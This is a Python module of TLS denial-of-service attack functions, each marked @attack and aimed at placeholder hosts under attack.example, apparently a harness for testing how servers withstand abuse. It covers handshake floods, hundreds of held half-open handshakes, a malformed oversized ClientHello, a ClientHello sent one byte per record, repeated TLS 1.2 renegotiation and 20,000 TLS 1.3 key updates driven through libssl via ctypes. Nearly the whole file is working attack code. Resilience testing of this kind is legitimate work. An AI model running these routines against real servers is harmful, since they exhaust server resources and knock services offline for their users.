# TLS: handshakes, half of them, and what goes on behind one (RFC 5246, RFC 8446).
import ctypes
import ssl

from wire import *


@attack
def handshakes():
    context = ssl.create_default_context()
    for number in range(300):
        host = f"h{number}.attack.example"
        try:
            with stream("tls.attack.example", 443) as sock:
                context.wrap_socket(sock, server_hostname=host).close()
        except OSError:
            pass


def hello():
    context = ssl.create_default_context()
    to, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(to, out, server_hostname="half.attack.example").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


@attack
def half_handshakes():
    first = hello()
    held = []
    for _ in range(400):
        try:
            held.append(stream("half.attack.example", 443, 2))
            held[-1].sendall(first)
        except OSError:
            pass
        held = held[-200:]


@attack
def endless_hello():
    with stream("hello.attack.example", 443) as sock:
        push(sock, b"\x16\x03\x01\x00\x04\x01\xff\xff\xff")
        push(sock, b"\x16\x03\x01\x40\x00" + bytes(16384), 1000)
        hear(sock)


@attack
def hello_in_crumbs():
    message = hello()[5:]
    with stream("crumbs.attack.example", 443) as sock:
        for at in range(len(message)):
            if not push(sock, b"\x16\x03\x01\x00\x01" + message[at : at + 1]):
                break
        hear(sock)


class Client:
    """libssl itself, for what the module ssl does not do."""

    def __init__(self, host, version):
        self.lib = ctypes.CDLL("libssl.so.3")
        for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(self.lib, name).restype = ctypes.c_void_p
        context = ctypes.c_void_p(self.lib.SSL_CTX_new(ctypes.c_void_p(self.lib.TLS_client_method())))
        self.lib.SSL_CTX_ctrl(context, 124, version, None)  # the newest version
        self.ssl = ctypes.c_void_p(self.lib.SSL_new(context))
        self.sock = stream(host, 443)
        self.sock.settimeout(None)
        self.lib.SSL_set_fd(self.ssl, self.sock.fileno())
        if self.lib.SSL_connect(self.ssl) != 1:
            raise OSError("no handshake")

    def write(self, data):
        return self.lib.SSL_write(self.ssl, data, len(data)) == len(data)


@attack
def renegotiation():
    for _ in range(50):
        client = Client("renegotiation.attack.example", 0x0303)
        for _ in range(200):
            if client.lib.SSL_renegotiate(client.ssl) != 1 or client.lib.SSL_do_handshake(client.ssl) != 1:
                break
        client.write(b"GET /renegotiated HTTP/1.1\r\nHost: renegotiation.attack.example\r\n\r\n")
        client.sock.close()


@attack
def key_updates():
    client = Client("keys.attack.example", 0x0304)
    client.sock.settimeout(None)
    for _ in range(20000):
        if client.lib.SSL_key_update(client.ssl, 1) != 1 or client.lib.SSL_do_handshake(client.ssl) != 1:
            break
    client.write(b"GET /updated HTTP/1.1\r\nHost: keys.attack.example\r\n\r\n")
